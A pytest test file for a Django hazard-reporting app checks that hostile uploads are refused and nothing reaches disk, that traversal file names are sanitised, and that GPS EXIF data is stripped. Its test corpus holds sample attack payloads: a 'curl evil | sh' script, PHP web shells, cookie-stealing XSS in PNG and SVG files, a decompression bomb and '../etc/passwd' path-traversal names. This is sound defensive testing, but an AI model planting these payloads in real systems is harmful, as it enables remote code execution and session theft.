"""The upload corpus: every bad file is refused with a message, nothing is stored."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from PIL import Image

from hazards.choices import Status
from hazards.models import HazardEvidence
from tests.hazards.conftest import start
from tests.hazards.factories import jpeg_bytes, png_bytes, upload

pytestmark = pytest.mark.django_db


def _media_files() -> list[Path]:
    root = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def _bomb_png() -> bytes:
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG", optimize=True)
    return out.getvalue()


CORPUS = {
    "script renamed .jpg": lambda: upload("photo.jpg", b"#!/bin/sh\ncurl evil | sh\n"),
    "php renamed .jpg": lambda: upload("photo.jpg", b"<?php system($_GET['c']); ?>"),
    "html/png polyglot": lambda: upload(
        "photo.png", png_bytes() + b"<html><script>alert(document.cookie)</script></html>"
    ),
    "svg": lambda: upload(
        "diagram.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "image/svg+xml",
    ),
    "decompression bomb": lambda: upload("bomb.png", _bomb_png(), "image/png"),
    "path traversal name": lambda: upload(
        "../../../../var/www/html/shell.php.jpg", b"<?php eval($_POST['x']); ?>"
    ),
    "empty file": lambda: upload("empty.jpg", b""),
    "truncated pdf": lambda: upload("report.pdf", b"%PDF-1.4\n1 0 obj\n", "application/pdf"),
}


@pytest.fixture
def in_progress(self_found, officer_a):
    start(self_found, officer_a)
    return self_found


@pytest.mark.parametrize("case", sorted(CORPUS))
def test_bad_upload_is_refused_and_nothing_is_stored(client, officer_a, in_progress, case):
    client.force_login(officer_a)
    events = in_progress.events.count()
    response = client.post(
        reverse("hazards:action", args=[in_progress.pk, "progress"]),
        {"note": "已完成一半", "expected_status": "in_progress", "files": [CORPUS[case]()]},
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert "is-invalid" in body or "invalid-feedback" in body
    assert "已完成一半" in body  # the typed note is kept
    assert not HazardEvidence.objects.exists()
    assert _media_files() == []
    in_progress.refresh_from_db()
    assert in_progress.progress == ""
    assert in_progress.events.count() == events


def test_oversized_file_is_refused(client, officer_a, in_progress, settings):
    settings.UPLOAD_MAX_BYTES = 2000
    big = jpeg_bytes(size=(400, 400))
    assert len(big) > 2000
    client.force_login(officer_a)
    response = client.post(
        reverse("hazards:action", args=[in_progress.pk, "evidence"]),
        {"stage": "after", "files": [upload("big.jpg", big)]},
    )
    assert response.status_code == 200
    assert "文件过大" in response.content.decode()
    assert not HazardEvidence.objects.exists()
    assert _media_files() == []


@pytest.mark.parametrize("name", ["../../../etc/passwd.jpg", "..\\..\\etc\\passwd.jpg"])
def test_traversal_name_never_reaches_the_disk_path(client, officer_a, in_progress, name):
    client.force_login(officer_a)
    response = client.post(
        reverse("hazards:action", args=[in_progress.pk, "evidence"]),
        {"stage": "after", "files": [upload(name, jpeg_bytes())]},
    )
    assert response.status_code == 302
    evidence = HazardEvidence.objects.get()
    assert ".." not in evidence.file.name and "passwd" not in evidence.file.name
    assert evidence.original_name == "passwd.jpg"
    root = Path(settings.STORAGES["default"]["OPTIONS"]["location"]).resolve()
    assert all(root in p.resolve().parents for p in _media_files())


def test_valid_jpeg_with_gps_exif_comes_back_stripped(client, officer_a, in_progress):
    exif = Image.Exif()
    exif[0x010F] = "Canon"
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (24.0, 46.0, 12.0)
    gps[3] = "E"
    gps[4] = (118.0, 34.0, 5.0)
    original = jpeg_bytes(size=(64, 48), exif=exif)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)
    client.force_login(officer_a)
    response = client.post(
        reverse("hazards:action", args=[in_progress.pk, "progress"]),
        {"note": "", "expected_status": "in_progress", "files": [upload("gps.jpg", original)]},
    )
    assert response.status_code == 302
    evidence = HazardEvidence.objects.get()
    served = b"".join(client.get(evidence.get_absolute_url()).streaming_content)
    image = Image.open(io.BytesIO(served))
    assert image.format == "JPEG" and image.size == (64, 48)
    assert not image.getexif()
    assert b"Canon" not in served
    in_progress.refresh_from_db()
    assert in_progress.status == Status.IN_PROGRESS


@pytest.mark.parametrize("name", ["..\\evil.jpg", "a/b.jpg", "..hidden.jpg", "x\x00.jpg"])
def test_files_field_refuses_names_carrying_a_path(name):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from hazards.forms import HazardFilesField

    uploaded = SimpleUploadedFile("x.jpg", jpeg_bytes(), "image/jpeg")
    uploaded._name = name  # bypass Django's own basename() as a forged parser result would
    field = HazardFilesField(required=False)
    with pytest.raises(Exception, match="文件名不合法"):
        field.clean([uploaded])
    assert _media_files() == []


def test_refused_submission_stores_none_of_its_files(client, hospital_a, officer_a):
    import datetime as dt

    from core.dates import today
    from tests.hazards.factories import raise_hazard

    hazard = raise_hazard(
        hospital=hospital_a,
        found_by=officer_a,
        found_on=today() - dt.timedelta(days=20),
        deadline=today() - dt.timedelta(days=1),
    )
    start(hazard, officer_a)
    client.force_login(officer_a)
    response = client.post(
        reverse("hazards:action", args=[hazard.pk, "submit"]),
        {"note": "已整改", "expected_status": "in_progress", "files": [upload("after.jpg")]},
    )
    assert response.status_code == 200
    assert "书面说明" in response.content.decode()
    assert not HazardEvidence.objects.exists()
    assert _media_files() == []
